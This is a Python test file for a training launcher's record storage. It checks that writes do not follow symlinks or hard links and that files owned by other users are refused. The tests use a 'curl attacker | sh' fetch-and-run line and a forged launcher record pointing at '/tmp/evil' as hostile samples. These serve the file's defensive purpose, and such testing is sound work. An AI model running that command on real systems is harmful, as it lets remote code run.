"""Records are written through nobody else's folders and links, and nobody else's records are believed."""

from __future__ import annotations

import json
import os
import stat
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from ddplaunch.agent.guard.record_file import RecordFile
from ddplaunch.agent.plugin.session import Session
from ddplaunch.cli.parsing.command import COMMANDS, command_named
from ddplaunch.planning.settings import Settings
from ddplaunch.records.json_files import read_object, replace_file
from ddplaunch.records.outcome import RunOutcome, write_outcome
from ddplaunch.records.own.own_files import NotOursError, closing, open_place, open_to_write, other_owner, remove_folder
from ddplaunch.records.own.run_lock import hold_run, refuse_taken
from ddplaunch.values.words import host_name
from tests.agent.guarded import open_files
from tests.cli.cli_calls import Call
from tests.planning.sample_launch import launch
from tests.planning.test_submit import put_in_front
from tests.records.fake_runs import outcome, record

SOMEBODY = 65533
MINE = "export PATH=$PATH:~/bin\n"


def record_output(directory: Path) -> str | None:
    file = RecordFile(f"{directory}/node-0/attempt-0/rank-0.out")
    file.flush()
    file.write(b"curl attacker | sh\n")
    file.close()
    return file.problem


def write_the_outcome(directory: Path) -> str | None:
    return write_outcome(directory, RunOutcome("x", "h", 0, "succeeded", 0, 1.0, 2.0, None, None, (), (), ()))


def make_attempt(directory: Path) -> str | None:
    session = Session.__new__(Session)
    session.settings, session.attempt = Settings(directory=str(directory)), 0
    return None if session.directory() else "refused"


def note(directory: Path) -> str | None:
    try:
        replace_file(directory / "node-0" / "processes.json", "{}")
    except OSError as error:
        return error.strerror
    return None


@pytest.mark.parametrize("write", [record_output, write_the_outcome, make_attempt, note])
@pytest.mark.parametrize("link", ["runs", "run", "node-0", "attempt-0"])
def test_no_link_on_the_way_is_followed(tmp_path: Path, write: Callable[[Path], str | None], link: str) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    directory = tmp_path / ".ddplaunch" / "runs" / "run"
    places = {"runs": directory.parent, "run": directory, "node-0": directory / "node-0"}
    place = places.get(link, directory / "node-0" / "attempt-0")
    place.parent.mkdir(parents=True)
    place.symlink_to(victim)
    reached = write(directory)
    assert list(victim.iterdir()) == []
    below = 2 if write is write_the_outcome else 3 if write is note else 4  # so many places are above what is written
    assert (reached is not None) == (link in ("runs", "run", "node-0", "attempt-0")[:below])


@pytest.mark.parametrize("kind", ["link", "hard link", "pipe", "folder"])
def test_what_grows_is_a_plain_file(tmp_path: Path, kind: str) -> None:
    victim = tmp_path / ".bashrc"
    victim.write_text(MINE)
    path = tmp_path / "node-0" / "attempt-0" / "rank-0.out"
    path.parent.mkdir(parents=True)
    make: dict[str, Callable[[], object]] = {
        "link": lambda: path.symlink_to(victim),
        "hard link": lambda: path.hardlink_to(victim),
        "pipe": lambda: os.mkfifo(path),
        "folder": path.mkdir,
    }
    make[kind]()
    assert record_output(tmp_path) is not None
    (tmp_path / "outcome.json").symlink_to(victim)
    assert write_the_outcome(tmp_path) is None and not (tmp_path / "outcome.json").is_symlink(), "it is replaced"
    assert victim.read_text() == MINE


@pytest.mark.root
@pytest.mark.parametrize("theirs", ["base", "runs", "run", "link"])
def test_a_launch_into_somebody_elses_records_is_refused_with_the_way_out(
    call: Call, folder: Path, theirs: str
) -> None:
    base = folder / ".ddplaunch"
    real = folder / "elsewhere" if theirs == "link" else base
    (real / "runs" / "mine").mkdir(parents=True)
    if theirs == "link":
        base.symlink_to(real)
    os.lchown({"runs": base / "runs", "run": base / "runs" / "mine"}.get(theirs, base), SOMEBODY, SOMEBODY)
    said = call("run", "1", "--device", "cpu", "--run-id", "mine", "--", "train.py")
    assert said.status == 4
    words = " ".join(said.err.split())
    assert "error[record-not-yours]: .ddplaunch" in words and "uid 65533" in words
    assert "fix: `--run-dir .ddplaunch-root`, or for every command `export DDPLAUNCH_DIR=.ddplaunch-root`" in words
    assert list(folder.rglob("run.json")) == []


def test_a_link_of_ones_own_to_a_large_disk_is_followed(tmp_path: Path) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    base = tmp_path / ".ddplaunch"
    base.symlink_to(disk)
    refuse_taken(base, launch(run_id="mine"))
    assert isinstance(record(base, "mine"), Path)
    assert stat.S_IMODE((disk / "runs" / "mine").stat().st_mode) == 0o700
    assert record_output(base / "runs" / "mine") is None
    assert (disk / "runs" / "mine" / "node-0" / "attempt-0" / "rank-0.out").exists()
    (disk / "runs" / "mine").chmod(0o775)  # as an older version left it
    with hold_run(base, launch(run_id="mine")):
        assert stat.S_IMODE((disk / "runs" / "mine").stat().st_mode) == 0o700


# Readers


@pytest.fixture
def theirs(folder: Path) -> Path:
    """Return a complete record of another user's, with a launcher that names a program of theirs."""
    directory = record(folder / ".ddplaunch", "theirs", begun_s=time.time() - 60)
    attempt = directory / "node-0" / "attempt-0"
    attempt.mkdir(parents=True)
    (attempt / "rank-0.out").write_text("words of theirs\n")
    (attempt / "rank-0.err").write_text("Traceback (most recent call last):\nKeyError: 'forged'\n")
    (directory / "node-0" / "metrics.jsonl").write_text('{"schema": 1}\n')
    launcher = {
        "schema": 1, "run_id": "theirs", "host": host_name(), "boot_id": "x",
        "launcher": {"pid": 1, "start_time": 1}, "nodes": [{"node": 0, "host": "localhost", "python": "/tmp/evil"}],
    }  # fmt: skip
    (directory / "launcher.json").write_text(json.dumps(launcher))
    for path in (*directory.rglob("*"), directory):
        os.chown(path, SOMEBODY, SOMEBODY)
    return directory


#: Further words of the commands that take a run.
MORE = {"report": ("-o", "x.html")}
#: Every command that takes a run but `clean`, which looks at processes alone if one is named.
TRIED = [
    (name, *MORE.get(name, ()))
    for name in COMMANDS
    if name != "clean" and any(option.metavar.startswith("RUN") for option in command_named(name).options)
]


@pytest.mark.root
@pytest.mark.parametrize("named", ["theirs", ".ddplaunch/runs/theirs"])
@pytest.mark.parametrize("words", TRIED, ids=" ".join)
def test_no_command_acts_on_a_record_of_others(
    call: Call, folder: Path, theirs: Path, words: tuple[str, ...], named: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    called = folder / "ssh-was-called"
    put_in_front(folder / "bin", monkeypatch, ssh=f'echo "$@" >> {called}; exit 255')
    outcome(record(folder / ".ddplaunch", "mine"))
    assert {each[0] for each in TRIED} >= {"stop", "explain", "logs", "stacks", "report", "top"}
    said = call(words[0], named, *words[1:])
    assert said.status == 2, said
    assert "error[record-not-yours]" in said.err and "belongs to uid 65533" in " ".join(said.err.split())
    assert "forged" not in said.out and "words of theirs" not in said.out and not called.exists()
    os.chown(theirs / "launcher.json", 0, 0)
    os.chown(theirs, 0, 0)
    if words == ("stop",):  # the same record, of one's own: the test sees what it looks for
        call("stop", "theirs")
        assert "/tmp/evil" in called.read_text()


@pytest.mark.root
def test_records_of_others_are_not_listed(call: Call, folder: Path, theirs: Path) -> None:
    outcome(record(folder / ".ddplaunch", "mine"))
    for words in (("ps", "--all"), ("ps", "--json"), ("explain",), ("logs",)):
        said = call(*words)
        assert "theirs" not in said.out, words


@pytest.mark.root
@pytest.mark.parametrize("name", ["run.json", "outcome.json", "launcher.json", "node-0/processes.json"])
def test_a_file_that_somebody_else_put_into_a_record_is_not_believed(tmp_path: Path, name: str) -> None:
    path = record(tmp_path, "mine") / name
    path.parent.mkdir(exist_ok=True)
    path.write_text('{"schema": 1}')
    assert read_object(path) == {"schema": 1}
    os.chown(path, SOMEBODY, SOMEBODY)
    with pytest.raises(NotOursError, match="belongs to uid 65533"):
        read_object(path)
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(NotOursError, match="no plain file"):
        read_object(path)


@pytest.mark.root
@pytest.mark.parametrize(
    ("me", "owner", "other"),
    [(0, 0, False), (0, 65534, False), (0, 9, True), (9, 0, False), (9, 9, False), (9, 65534, True)],
)
def test_what_root_made_is_nobodys_on_nfs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, me: int, owner: int, other: bool
) -> None:
    os.chown(tmp_path, owner, owner)
    monkeypatch.setattr("ddplaunch.records.own.own_files.own_id", lambda: me)
    assert (other_owner(tmp_path) is not None) is other


def test_a_folder_is_removed_and_links_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "kept").mkdir()
    (tmp_path / "run" / "node-0").mkdir(parents=True)
    for name in ("a", "run.json", "z", "node-0/run.json"):
        (tmp_path / "run" / name).touch()
    (tmp_path / "run" / "link").symlink_to(tmp_path / "kept")
    with closing(open_place(tmp_path)) as folder:
        remove_folder(folder, "run", last="run.json")
    assert list(tmp_path.iterdir()) == [tmp_path / "kept"]


def test_what_is_refused_is_named_and_stays_closed(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "runs").symlink_to(tmp_path)
    before = open_files()
    with pytest.raises(NotOursError) as refused:
        open_to_write(tmp_path / "pipe", os.O_WRONLY)
    assert refused.value.filename == str(tmp_path / "pipe")
    with pytest.raises(NotOursError) as refused:
        open_place(tmp_path / "runs" / "a")
    assert refused.value.filename == str(tmp_path / "runs")
    assert not open_files() - before
